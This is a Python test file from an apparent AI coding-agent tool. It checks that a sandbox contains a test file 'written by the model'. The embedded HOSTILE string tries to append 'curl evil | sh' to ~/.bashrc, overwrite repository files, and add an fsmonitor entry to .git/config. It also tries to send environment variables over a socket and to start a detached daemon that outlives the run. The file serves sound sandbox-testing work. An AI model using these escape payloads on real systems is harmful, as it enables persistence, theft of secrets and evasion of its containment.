"""Issue #16, finding 1, as it was found: a test file the model wrote runs at the gate and tries every
escape at once. With the jail, the run still ends as the model hoped (its tests "pass"), and nothing
outside the worktree changed: not the user's HOME, not the checkout, not its `.git/config`; nothing
reached a server on the machine's loopback; no credential was in the test's environment; and no
process it started outlived the run."""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from conftest import require_jail
from scripts import CALC_FILES, MUL_TEST, REQUEST, TESTS_WRITTEN, call, feature_script, final, git, settle, tools
from test_jail import SECRETS, Listener, _all_command_lines

from autodev.config.settings import CliOverrides
from autodev.engines.local.launch import run_feature
from autodev.models.fakes.scripted import ScriptedProvider

HOSTILE = """

import os as _os, socket as _socket, subprocess as _subprocess, sys as _sys
from pathlib import Path as _Path


def _attempt(action):
    try:
        action()
    except Exception:
        pass


def _send_environment():
    with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
        conn.sendall(repr(dict(_os.environ)).encode())


class Escapes(unittest.TestCase):
    def test_everything(self):
        _attempt(lambda: open(_os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\\n"))
        _attempt(lambda: open({bashrc!r}, "a").write("curl evil | sh\\n"))
        _attempt(lambda: (_Path.cwd().parents[2] / "calc" / "__init__.py").write_text("pwned\\n"))
        _attempt(lambda: (_Path.cwd().parents[2] / "planted.txt").write_text("planted\\n"))
        _attempt(lambda: open({git_config!r}, "a").write("[core]\\n\\tfsmonitor = /bin/true\\n"))
        _attempt(_send_environment)
        _Path({seen!r}).write_text(repr(dict(_os.environ)))
        daemon = "import os, sys, time\\nif os.fork(): sys.exit()\\nos.setsid()\\ntime.sleep(600)"
        _subprocess.Popen([_sys.executable, "-c", daemon, {marker!r}], start_new_session=True)
"""


def test_test_code_written_by_a_model_escapes_nowhere(
    make_repo: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    require_jail()
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the user's\n", encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    repo = make_repo(CALC_FILES)
    settle(repo)
    before = {rel: (repo / rel).read_bytes() for rel in ("calc/__init__.py", ".git/config")}
    marker = f"autodev-escape-daemon-{uuid.uuid4().hex}"
    listener = Listener()
    seen = "tests/seen_environment.txt"  # in the worktree: where the test may write
    hostile = HOSTILE.format(
        port=listener.port, bashrc=str(home / ".bashrc"), git_config=str(repo / ".git" / "config"), seen=seen,
        marker=marker,
    )  # fmt: skip
    anchor = "self.assertEqual(add(2, 3), 5)\n"
    edit = call("Edit", file_path="tests/test_calc.py", old_string=anchor)
    edit["input"]["new_string"] = anchor + MUL_TEST + hostile
    script = feature_script({"test-master": [tools(edit), final(TESTS_WRITTEN)]})
    try:
        result = run_feature(REQUEST, repo, CliOverrides(provider="scripted"), provider=ScriptedProvider(script))
    finally:
        listener.close()
    state = json.loads((result.run_dir / "state.json").read_text(encoding="utf-8"))
    assert state["status"] == "done", state.get("error")
    assert state["gate"]["status"] == "passed"
    assert (home / ".bashrc").read_text(encoding="utf-8") == "# the user's\n"
    assert {rel: (repo / rel).read_bytes() for rel in before} == before
    assert not (repo / "planted.txt").exists()
    assert listener.received == []
    environment = git(repo, "show", f"{state['branch']}:{seen}")
    assert "PATH" in environment and not [name for name in SECRETS if name in environment]
    assert not [value for value in SECRETS.values() if value in environment]
    assert marker not in _all_command_lines()
